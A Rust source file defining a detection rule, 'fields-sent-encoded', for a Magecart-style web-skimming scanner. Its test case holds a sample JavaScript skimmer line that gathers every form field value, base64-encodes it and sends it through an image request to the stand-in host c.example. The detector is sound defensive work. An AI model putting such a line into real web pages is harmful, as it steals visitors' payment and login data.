//! `fields-sent-encoded`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "fields-sent-encoded",
    description: "The script encodes form fields and sends them to another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART,
    needs: &[one(&[Atom::FieldSentHidden])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var s='';for(i=0;i<e.length;i++)s+=e[i].name+'='+e[i].value;new Image().src='https://c.example/g?'+btoa(s)",
        ],
        without: &["fetch('/order',{body:btoa(q.value)})"],
    },
};
